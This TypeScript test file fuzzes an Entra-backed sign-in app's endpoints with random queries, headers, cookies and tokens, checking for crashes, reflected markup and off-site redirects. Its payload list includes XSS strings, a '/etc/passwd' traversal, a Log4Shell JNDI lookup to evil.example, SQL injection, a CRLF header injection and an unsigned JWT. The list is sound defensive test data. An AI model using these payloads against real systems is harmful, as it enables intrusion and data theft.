/**
 * Property-based fuzzing of every endpoint through the real handlers:
 * query strings (known and random parameters, raw and broken percent-encoding),
 * the Cookie, Authorization and Accept headers, and cookie values, mixed with
 * genuine pieces (a live session cookie, a real transaction cookie and state)
 * so that the deeper code paths are reached too.
 *
 * For every request:
 * - no 5xx, and no stack trace in the body;
 * - nothing the caller sent containing "<" comes back raw in an HTML body;
 * - API routes (claims, me) answer JSON: application/json on success,
 *   application/problem+json on errors; browser routes answer an HTML page or
 *   a redirect;
 * - a Location never leaves the app's origin except for the tenant's
 *   authorize and end-session endpoints, with our own redirect URIs.
 *
 * Seeded: every run generates the same 200 cases per endpoint. To replay a
 * failure, fast-check prints its seed and path.
 */
import fc from 'fast-check';
import type { JWTPayload } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RegisteredFunction } from '../../src/lib/registry';
import { STYLESHEET } from '../../src/lib/pages/stylesheet';
import { startApp, type AppUnderTest } from '../helpers/app-under-test';
import { DEFAULT_USERS } from '../helpers/fake-entra';
import { APP_ORIGIN } from '../helpers/functions';
import { CookieJar, invoke, type InvokeResult } from '../helpers/functions';
import { SESSION_COOKIE, signIn, startSignIn } from '../helpers/sign-in-steps';

const NUM_RUNS = 200;
const SEED = 20_261_124;
const PORTAL = 'https://portal.contoso.test';

let app: AppUnderTest;
let liveSession: string;

beforeAll(async () => {
  app = await startApp({ ALLOWED_RETURN_ORIGINS: PORTAL });
  liveSession = await freshSession();
});
afterAll(() => app.stop());

async function freshSession(): Promise<string> {
  const jar = new CookieJar();
  await signIn(app, jar);
  return jar.cookies.get(SESSION_COOKIE)!;
}

// ---------------------------------------------------------------------------
// Arbitraries
// ---------------------------------------------------------------------------

/** Payloads that have broken parsers, templates and validators elsewhere. */
const NASTY = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<fz-marker>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;',
  'javascript:alert(1)',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '%',
  '%E0%A4%A',
  '%C0%AF',
  '\ud800',
  '\uffff',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  "' OR '1'='1",
  '__proto__',
  'constructor',
  'eyJhbGciOiJub25lIn0.eyJzaWQiOiJ4In0.',
  'A'.repeat(5000),
  '🙂'.repeat(50),
  '\r\nSet-Cookie: fnauth=x',
  'a=b; fnauth=c',
  'null',
  '[]',
];

/** Any string, biased towards the nasty ones; sometimes tagged with a "<fz-…>" marker that must never come back raw. */
const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.tuple(fc.nat(999), fc.string({ maxLength: 10 })).map(([n, s]) => `<fz-${n}>${s}`) },
);

/** Characters a Functions host can deliver in a header value: no CR, LF or NUL; Latin-1. */
const headerChar = fc.oneof(
  { weight: 9, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)) },
  { weight: 1, arbitrary: fc.integer({ min: 0x80, max: 0xff }).map((code) => String.fromCharCode(code)) },
  { weight: 1, arbitrary: fc.constant('\t') },
);
const headerText = fc.oneof(
  fc.string({ unit: headerChar, maxLength: 60 }),
  fc.constantFrom(...NASTY.filter((value) => /^[\t\x20-\x7e\x80-\xff]*$/.test(value))),
  fc.tuple(fc.nat(999), fc.string({ unit: headerChar, maxLength: 10 })).map(([n, s]) => `<fz-${n}>${s}`),
);

const PARAMETERS = [
  'returnTo', 'prompt', 'login_hint', 'code', 'state', 'error', 'error_description', 'post_logout_redirect_uri', 'id_token_hint',
  'session_state', 'client_info', 'sid', 'iss', 'include', 'everywhere',
];
const PROMPTS = ['login', 'select_account', 'create', 'none', 'consent', ''];

/** Percent-encodes every UTF-8 byte (lone surrogates become U+FFFD, as a browser would send). */
const encodeAll = (value: string) => [...Buffer.from(value, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

interface QueryPart {
  key: string;
  value: string;
  encoding: 'component' | 'all' | 'raw';
}

const queryPart: fc.Arbitrary<QueryPart> = fc.record({
  key: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...PARAMETERS) }, { weight: 1, arbitrary: anyText }),
  value: fc.oneof({ weight: 4, arbitrary: anyText }, { weight: 1, arbitrary: fc.constantFrom(...PROMPTS) }),
  encoding: fc.constantFrom('component', 'all', 'raw'),
});

function buildQuery(parts: QueryPart[]): string {
  const safe = (value: string) => {
    try {
      return encodeURIComponent(value);
    } catch {
      return encodeAll(value); // lone surrogates
    }
  };
  return parts
    .map(({ key, value, encoding }) => {
      if (encoding === 'raw') return `${key.replace(/#/g, '%23')}=${value.replace(/#/g, '%23')}`;
      const encode = encoding === 'all' ? encodeAll : safe;
      return `${encode(key)}=${encode(value)}`;
    })
    .join('&');
}

type CookieKind = 'none' | 'live' | 'random-session' | 'random-header' | 'duplicated' | 'live-plus-junk' | 'transaction';

interface FuzzRequest {
  query: QueryPart[];
  cookie: { kind: CookieKind; text: string };
  authorization: string | undefined;
  accept: string | undefined;
  method: 'GET' | 'POST' | 'DELETE';
  /** Route parameters (`{id}`, `{userId}`): a real-looking id, a GUID, or anything. */
  pathParam: string;
  /** A form body for POST requests: fuzzed fields, and sometimes a real form token. */
  form: QueryPart[];
  /** /api/redirect only: use a real state and transaction cookie with fuzzed code/extra parameters. */
  realTransaction: boolean;
  /** Instead of the fuzzed Authorization header, a genuine tenant-signed token: an administrator's app token, or a user's. */
  realToken: 'none' | 'admin' | 'user';
  site: string | undefined;
  origin: string | undefined;
}

const fuzzRequest: fc.Arbitrary<FuzzRequest> = fc.record({
  query: fc.array(queryPart, { maxLength: 6 }),
  cookie: fc.record({
    kind: fc.constantFrom<CookieKind>('none', 'live', 'random-session', 'random-header', 'duplicated', 'live-plus-junk', 'transaction'),
    text: headerText,
  }),
  authorization: fc.option(
    fc.oneof(
      headerText,
      headerText.map((value) => `Bearer ${value}`),
      fc.base64String({ maxLength: 200 }).map((value) => `Bearer ${value}`),
      fc.tuple(fc.base64String({ maxLength: 60 }), fc.base64String({ maxLength: 200 })).map(([a, b]) => `Bearer eyJ${a.replace(/=/g, '')}.eyJ${b.replace(/=/g, '')}.sig`),
      fc.constantFrom('Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', 'bearer x', 'Bearer a b', `Bearer ${'A'.repeat(9000)}`),
    ),
    { nil: undefined, freq: 2 },
  ),
  accept: fc.option(fc.oneof(headerText, fc.constantFrom('application/json', 'text/html', '*/*', 'application/problem+json', 'image/png')), { nil: undefined, freq: 2 }),
  method: fc.constantFrom<'GET' | 'POST' | 'DELETE'>('GET', 'POST', 'DELETE'),
  pathParam: fc.oneof(
    { weight: 2, arbitrary: anyText },
    { weight: 1, arbitrary: fc.base64String({ minLength: 56, maxLength: 60 }).map((value) => value.replace(/[+/=]/g, '_').slice(0, 43)) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: fc.constantFrom('', '..', '%2e%2e', 'A'.repeat(5000), '11111111-1111-4111-8111-111111111111') },
  ),
  form: fc.array(
    fc.record({
      key: fc.oneof({ weight: 3, arbitrary: fc.constantFrom('everywhere', 'token', 'end') }, { weight: 1, arbitrary: anyText }),
      value: fc.oneof(anyText, fc.constantFrom('1', 'others', '')),
      encoding: fc.constantFrom<'component' | 'all' | 'raw'>('component', 'all', 'raw'),
    }),
    { maxLength: 4 },
  ),
  realTransaction: fc.boolean(),
  realToken: fc.constantFrom<'none' | 'admin' | 'user'>('none', 'none', 'admin', 'user'),
  /** Fetch metadata and Origin, which decide whether a sign-out is cross-site. */
  site: fc.option(fc.oneof(fc.constantFrom('same-origin', 'same-site', 'cross-site', 'none'), headerText), { nil: undefined, freq: 2 }),
  origin: fc.option(fc.oneof(fc.constantFrom(APP_ORIGIN, 'https://evil.example', 'null', `${APP_ORIGIN}.evil.example`), headerText), { nil: undefined, freq: 2 }),
});

// ---------------------------------------------------------------------------
// The properties
// ---------------------------------------------------------------------------

/** Every string the caller controlled in this request. */
function inputsOf(request: FuzzRequest): string[] {
  return [
    ...request.query.flatMap(({ key, value }) => [key, value]),
    ...request.form.flatMap(({ key, value }) => [key, value]),
    request.pathParam,
    request.cookie.text,
    request.authorization ?? '',
    request.accept ?? '',
    request.site ?? '',
    request.origin ?? '',
  ];
}

const STACK_TRACE = /\bat\s+[^\n]*\.(?:ts|js|mjs|cjs):\d+|\n\s+at\s+\S+\s+\(/;

function checkResponse(fn: RegisteredFunction, request: FuzzRequest, result: InvokeResult) {
  const context = `${fn.name} ${JSON.stringify(request).slice(0, 400)} → ${result.status} ${result.body.slice(0, 300)}`;
  expect(result.status, context).toBeGreaterThanOrEqual(200);
  expect(result.status, context).toBeLessThan(500);
  expect(result.body, context).not.toMatch(STACK_TRACE);
  const contentType = result.headers['content-type'] ?? '';

  if (fn.audience === 'api') {
    expect(result.location, context).toBeUndefined();
    expect(contentType, context).toBe(result.status === 200 ? 'application/json' : 'application/problem+json');
    const body = JSON.parse(result.body) as Record<string, unknown>;
    if (result.status !== 200) expect(body, context).toMatchObject({ status: result.status, code: expect.any(String) });
  } else if (result.status >= 300 && result.status < 400) {
    expect(result.location, context).toBeDefined();
  } else if (fn.name === 'style') {
    // The same text whatever was asked: nothing of the request can reach it.
    expect(contentType, context).toBe('text/css; charset=utf-8');
    expect(result.body, context).toBe(STYLESHEET);
  } else {
    expect(contentType, context).toContain('text/html');
    for (const input of inputsOf(request)) {
      if (!input.includes('<')) continue;
      const rawMarker = /<fz-\d+>/.exec(input)?.[0];
      if (rawMarker) expect(result.body, context).not.toContain(rawMarker);
      if (input.length >= 6) expect(result.body, context).not.toContain(input);
    }
    expect(result.body, context).not.toMatch(/<fz-\d+>/);
  }

  if (result.location !== undefined) checkLocation(fn, result.location, context);
}

function checkLocation(fn: RegisteredFunction, location: string, context: string) {
  const target = new URL(location);
  const endpoint = `${target.origin}${target.pathname}`;
  const { authorization_endpoint, end_session_endpoint } = app.entra.metadata;
  if (endpoint === authorization_endpoint) {
    expect(fn.name, context).toBe('login');
    expect(target.searchParams.get('redirect_uri'), context).toBe(`${APP_ORIGIN}/api/redirect`);
    expect(target.searchParams.get('client_id'), context).toBe(app.entra.clientId);
    expect(target.searchParams.get('code_challenge_method'), context).toBe('S256');
  } else if (endpoint === end_session_endpoint) {
    expect(fn.name, context).toBe('logout');
    expect(target.searchParams.getAll('post_logout_redirect_uri'), context).toEqual([`${APP_ORIGIN}/api/home`]);
  } else if (fn.name === 'home') {
    // The start page's own forms come back to it.
    expect(location, context).toBe(`${APP_ORIGIN}/api/home`);
  } else {
    expect([APP_ORIGIN, PORTAL], context).toContain(target.origin);
    expect(fn.name, context).toBe('redirect');
  }
}

async function cookieHeaderFor(request: FuzzRequest, forLogout: boolean): Promise<string | undefined> {
  const session = () => (forLogout ? freshSession() : Promise.resolve(liveSession));
  const text = request.cookie.text;
  switch (request.cookie.kind) {
    case 'none':
      return undefined;
    case 'live':
      return `${SESSION_COOKIE}=${await session()}`;
    case 'random-session':
      return `${SESSION_COOKIE}=${text}`;
    case 'random-header':
      return text;
    case 'duplicated':
      return `${SESSION_COOKIE}=${await session()}; ${SESSION_COOKIE}=${text}`;
    case 'live-plus-junk':
      return `${text}; ${SESSION_COOKIE}=${await session()}; ${text}`;
    case 'transaction':
      return `fnauth-tx-${'A'.repeat(43)}=${text}`;
  }
}

async function send(fn: RegisteredFunction, request: FuzzRequest): Promise<InvokeResult> {
  let query = buildQuery(request.query);
  const method = fn.methods.includes(request.method) ? request.method : fn.methods[0]!;
  // Requests that can end the session get one of their own, so the shared live session survives the run.
  let cookie = await cookieHeaderFor(request, fn.name === 'logout' || method !== 'GET');
  if (fn.name === 'redirect' && request.realTransaction) {
    // A genuine sign-in in progress: real state and transaction cookie; the fuzzed parameters come after.
    const jar = new CookieJar();
    const { callback } = await startSignIn(app, jar);
    const state = new URL(callback).searchParams.get('state')!;
    const fuzzedCode = request.query.find((part) => part.key === 'code')?.value ?? 'not-a-code';
    query = `state=${state}&code=${encodeURIComponent(fuzzedCode.replace(/[\ud800-\udfff]/g, ''))}&${query}`;
    cookie = [jar.header(), cookie].filter(Boolean).join('; ');
  }
  const headers: Record<string, string> = {};
  if (cookie) headers.cookie = cookie;
  if (request.authorization !== undefined) headers.authorization = request.authorization;
  if (request.realToken === 'admin') headers.authorization = `Bearer ${await app.entra.appToken(['Sessions.RevokeAll'])}`;
  if (request.realToken === 'user') headers.authorization = `Bearer ${await app.entra.accessToken(DEFAULT_USERS[1]!)}`;
  if (request.accept !== undefined) headers.accept = request.accept;
  if (request.site !== undefined) headers['sec-fetch-site'] = request.site;
  if (request.origin !== undefined) headers.origin = request.origin;
  let body: string | undefined;
  if (method === 'POST' && request.form.length > 0) {
    headers['content-type'] = 'application/x-www-form-urlencoded';
    body = buildQuery(request.form);
  }
  const path = fn.route.replace(/\{\w+\}/g, () => encodeURIComponent(request.pathParam.replace(/[\ud800-\udfff]/g, '')));
  return invoke(fn, `/api/${path}?${query}`, { method, headers, body });
}

/** Status plus what kind of answer it was, to see that the fuzzer reaches different code paths. */
function outcomeOf(result: InvokeResult): string {
  const code = /"code":"([a-z_]+)"|Error code: ([a-z_]+)/.exec(result.body);
  if (code) return `${result.status} ${code[1] ?? code[2]}`;
  if (result.body.includes('id="signed-in"')) return `${result.status} signed-in`;
  if (result.body.includes('id="signed-out"')) return `${result.status} signed-out`;
  if (result.body.includes('id="confirm-sign-out"')) return `${result.status} sign-out confirmation`;
  if (result.location) return `${result.status} ${new URL(result.location).searchParams.has('id_token_hint') ? 'with id_token_hint' : new URL(result.location).pathname}`;
  return String(result.status);
}

const ENDPOINTS = ['login', 'redirect', 'claims', 'me', 'logout', 'home', 'style', 'health', 'sessions', 'session', 'user-sessions', 'frontchannel-logout'] as const;
/** Endpoints whose answer must not depend on the request at all (only on the app's own state). */
const INPUT_FREE = new Set<string>(['style', 'health']);

describe(`fuzzing every endpoint (${NUM_RUNS} seeded runs each)`, () => {
  it('covers every registered function', () => {
    expect(Object.keys(app.fn).sort()).toEqual([...ENDPOINTS].sort());
  });

  ENDPOINTS.forEach((name, index) => {
    it(`/api/${name}`, async () => {
      const fn = app.fn[name];
      const statuses = new Map<string, number>();
      await fc.assert(
        fc.asyncProperty(fuzzRequest, async (request) => {
          const result = await send(fn, request);
          const outcome = outcomeOf(result);
          statuses.set(outcome, (statuses.get(outcome) ?? 0) + 1);
          checkResponse(fn, request, result);
        }),
        { seed: SEED + index, numRuns: NUM_RUNS, endOnFailure: true },
      );
      console.info(`fuzz /api/${name}: ${NUM_RUNS} runs, outcomes ${JSON.stringify(Object.fromEntries([...statuses].sort()))}`);
      if (INPUT_FREE.has(name)) expect([...statuses.keys()]).toEqual(['200']);
      // The fuzzer reached more than one outcome (it is not stuck on a single early refusal).
      else expect(statuses.size).toBeGreaterThan(1);
    }, 60_000);
  });
});

/**
 * Tokens signed with the tenant's real key but with fuzzed claims: a token
 * Entra itself would never issue, yet the only barrier left is our own code.
 */
describe(`fuzzing the claims of tenant-signed bearer tokens (${NUM_RUNS} seeded runs each)`, () => {
  const now = Math.floor(Date.now() / 1000);
  const jsonValue = fc.oneof(
    anyText,
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constantFrom(null, true, false, [], {}, 1e20, -1, 0, Number.MAX_SAFE_INTEGER, now, now + 3600, now - 3600, 8.64e12, 8.64e12 + 1),
    fc.array(anyText, { maxLength: 3 }),
  );
  const timestamp = fc.oneof(
    { weight: 3, arbitrary: fc.integer({ min: now - 600, max: now + 600 }) },
    { weight: 1, arbitrary: fc.constantFrom(1e20, 8.64e12, 8.64e12 + 1, Number.MAX_SAFE_INTEGER, now + 0.5, 0) },
  );
  const overrides = fc.record(
    {
      iat: timestamp,
      nbf: timestamp,
      exp: fc.oneof({ weight: 3, arbitrary: fc.integer({ min: now + 60, max: now + 7200 }) }, { weight: 1, arbitrary: fc.constantFrom(1e20, 8.64e12 + 1, Number.MAX_SAFE_INTEGER) }),
      scp: fc.oneof(fc.constantFrom('access_as_user', 'access_as_user other', 'other'), jsonValue),
      aud: fc.oneof(fc.constant('00001111-aaaa-4bbb-8ccc-222233334444'), fc.constant(['00001111-aaaa-4bbb-8ccc-222233334444', 'x']), jsonValue),
      oid: jsonValue,
      name: jsonValue,
      preferred_username: jsonValue,
      sub: fc.oneof(fc.constant('sub-fuzz'), jsonValue),
      extra: jsonValue,
    },
    { requiredKeys: [] },
  );

  for (const [index, name] of (['claims', 'me'] as const).entries()) {
    it(`/api/${name}`, async () => {
      const fn = app.fn[name];
      const outcomes = new Map<string, number>();
      await fc.assert(
        fc.asyncProperty(overrides, async (changes) => {
          const token = await app.entra.accessToken({ oid: '11111111-1111-4111-8111-111111111111', name: 'Alice', email: 'alice@example.com' }, {
            claims: (claims) => ({ ...claims, ...changes }) as JWTPayload,
          });
          const result = await invoke(fn, `/api/${name}`, { headers: { authorization: `Bearer ${token}` } });
          const outcome = outcomeOf(result);
          outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
          const context = `${name} ${JSON.stringify(changes).slice(0, 400)} → ${result.status} ${result.body.slice(0, 300)}`;
          // Never a 500. /api/me may answer 502 when Entra itself refuses the on-behalf-of exchange (its checks are stricter).
          if (result.status >= 500) expect({ status: result.status, code: outcome }, context).toEqual({ status: 502, code: '502 downstream_failed' });
          expect(result.body, context).not.toMatch(STACK_TRACE);
          expect(result.headers['content-type'], context).toBe(result.status === 200 ? 'application/json' : 'application/problem+json');
        }),
        { seed: SEED + 100 + index, numRuns: NUM_RUNS, endOnFailure: true },
      );
      console.info(`fuzz bearer /api/${name}: ${NUM_RUNS} runs, outcomes ${JSON.stringify(Object.fromEntries([...outcomes].sort()))}`);
      expect(outcomes.size).toBeGreaterThan(1);
    }, 60_000);
  }
});

describe('regressions found by the fuzzer', () => {
  // src/lib/current-user.ts describeCaller: new Date(seconds * 1000).toISOString() threw RangeError beyond year 275760 (500 until 3fdafd4).
  it.each([
    ['exp', 1e20],
    ['exp', 8.64e12 + 1],
    ['iat', Number.MAX_SAFE_INTEGER],
  ])('a tenant-signed access token with %s = %d is answered without a 500 by /api/claims', async (claim, value) => {
    const token = await app.entra.accessToken({ oid: '11111111-1111-4111-8111-111111111111', name: 'Alice', email: 'alice@example.com' }, {
      claims: (claims) => ({ ...claims, [claim]: value }),
    });
    const result = await invoke(app.fn.claims, '/api/claims', { headers: { authorization: `Bearer ${token}` } });
    expect(result.status, result.body).toBeLessThan(500);
  });
});
